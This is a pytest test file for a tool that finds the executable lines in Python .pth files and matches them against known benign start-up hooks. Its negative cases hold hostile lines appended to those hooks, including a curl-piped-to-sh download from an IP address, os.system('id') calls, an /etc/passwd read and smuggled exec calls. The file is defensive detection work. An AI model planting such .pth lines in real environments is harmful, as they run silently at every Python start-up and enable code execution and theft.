"""`.pth` files: which lines site.py executes, and which of them are the known benign shapes."""

from __future__ import annotations

import pytest

from interlock.analysis.extract.pth import PthLine, executable_lines
from tests.builders import NSPKG

DISTUTILS_HACK = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); "
)
PYTEST_COV = (
    "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n"
    "  init()\\n"
    ' except Exception as exc:\\n  sys.stderr.write(\\n   "pytest-cov: Failed to setup subprocess coverage. "\\n'
    '   "Environment variable COV_CORE_SOURCE was set but the initialization failed: {!r}\\\\n".format(exc)\\n  )\\n\')'
)
NSPKG_OLD = (  # the pre-3.5 form setuptools wrote for years
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));"
    "ie = os.path.exists(os.path.join(p,'__init__.py'));"
    "m = not ie and sys.modules.setdefault('zope', types.ModuleType('zope'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)"
)

KNOWN_SHAPES = {
    "setuptools distutils-precedence hook": DISTUTILS_HACK,
    "virtualenv bootstrap": "import _virtualenv",
    "editable-install finder": "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()",
    "coverage start-up hook": "import coverage; coverage.process_startup()",
    "pywin32 bootstrap": "import pywin32_bootstrap",
    "pytest-cov subprocess hook": PYTEST_COV,
    "namespace-package (-nspkg.pth) hook": NSPKG,
}


def only_line(text: str) -> PthLine:
    lines = executable_lines(text)
    assert len(lines) == 1, lines
    return lines[0]


@pytest.mark.parametrize("shape", sorted(KNOWN_SHAPES))
def test_known_shape_matched_exactly_is_named(shape: str) -> None:
    assert only_line(KNOWN_SHAPES[shape] + "\n").shape == shape


@pytest.mark.parametrize("shape", sorted(KNOWN_SHAPES))
def test_known_shape_with_a_statement_appended_is_not_that_shape(shape: str) -> None:
    line = only_line(KNOWN_SHAPES[shape].rstrip() + "; __import__('os').system('id')\n")
    assert line.shape is None


def test_namespace_line_with_os_system_appended_is_not_a_namespace_line() -> None:
    assert only_line(NSPKG + "; import os; os.system('curl -s http://198.51.100.7/p | sh')\n").shape is None


@pytest.mark.parametrize(
    "line",
    [
        NSPKG.replace("'zope'", "'zope' + __import__('os').getenv('X', '')"),
        NSPKG.replace("mp.append(p)", "mp.append(p) or exec('print(1)')"),
        NSPKG.replace("sys.modules.setdefault", "sys.modules.__setitem__"),
        NSPKG.replace("'sitedir'", "'sitedir'][0] and open('/etc/passwd').read()['x"),
    ],
    ids=["extra-call", "exec", "other-attribute", "file-read"],
)
def test_namespace_line_carrying_anything_more_is_not_a_namespace_line(line: str) -> None:
    assert only_line(line + "\n").shape is None


def test_current_setuptools_namespace_line_without_has_mfs() -> None:
    line = NSPKG.replace("has_mfs = sys.version_info > (3, 5);", "").replace("has_mfs and ", "")
    assert "has_mfs" not in line
    assert only_line(line + "\n").shape == "namespace-package (-nspkg.pth) hook"


@pytest.mark.parametrize(
    "line",
    [
        NSPKG.replace("'zope'", "'zope.app'").replace("*('zope.app',)", "*('zope', 'app')")
        + ";m and setattr(sys.modules['zope'], 'app', m)",
        NSPKG_OLD,
    ],
    ids=["nested-namespace", "pre-3.5-template"],
)
def test_other_setuptools_namespace_templates_are_recognised(line: str) -> None:
    assert only_line(line + "\n").shape == "namespace-package (-nspkg.pth) hook"


def test_editable_finder_must_install_the_module_it_imports() -> None:
    assert only_line("import __editable___a_finder; __editable___b_finder.install()\n").shape is None


def test_whitespace_inside_a_shape_is_normalised() -> None:
    assert only_line("import coverage;   coverage.process_startup()\n").shape == "coverage start-up hook"


def test_path_lines_comments_and_blank_lines_are_not_executable() -> None:
    text = "/opt/demo/lib\n# import os; os.system('id')\n\n../relative\nimportlib_is_a_path\nimport_hook\n"
    assert executable_lines(text) == []


def test_only_lines_starting_with_import_space_or_tab_run() -> None:
    text = "/opt/lib\nimport\tos; os.system('a')\n import os\nimport os; os.system('b')\nIMPORT os\n"
    lines = executable_lines(text)
    assert [(line.line, line.code) for line in lines] == [
        (2, "import\tos; os.system('a')"),
        (4, "import os; os.system('b')"),
    ]
    assert all(line.shape is None for line in lines)


def test_line_numbers_count_every_physical_line() -> None:
    text = "# header\n\n/opt/lib\nimport _virtualenv\n"
    line = only_line(text)
    assert (line.line, line.code, line.shape) == (4, "import _virtualenv", "virtualenv bootstrap")


def test_imports_lists_top_level_modules_the_line_loads() -> None:
    line = only_line("import litellm_hook.init, sys; from evil.sub import run; __import__('other.mod')\n")
    assert line.imports == ("evil", "litellm_hook", "other", "sys")


def test_imports_of_an_unparseable_line_is_empty_not_an_error() -> None:
    line = only_line("import os; os.system('unterminated\n")
    assert line.imports == ()
    assert line.shape is None


def test_windows_line_endings() -> None:
    lines = executable_lines("/opt/lib\r\nimport _virtualenv\r\n")
    assert [(line.line, line.shape) for line in lines] == [(2, "virtualenv bootstrap")]


def test_namespace_line_importing_another_module_is_not_a_namespace_line() -> None:
    line = only_line(NSPKG + ";__import__('zope_hook')\n")
    assert line.imports == ("importlib", "os", "sys", "types", "zope_hook")
    assert line.shape is None


def test_a_byte_order_mark_before_the_first_line_does_not_stop_it_running() -> None:
    # site.py decodes .pth files as utf-8-sig (Python 3.13 on): the line after the mark runs.
    (line,) = executable_lines("\ufeffimport os; os.system('id')\n/some/path\n")
    assert (line.line, line.code, line.imports) == (1, "import os; os.system('id')", ("os",))
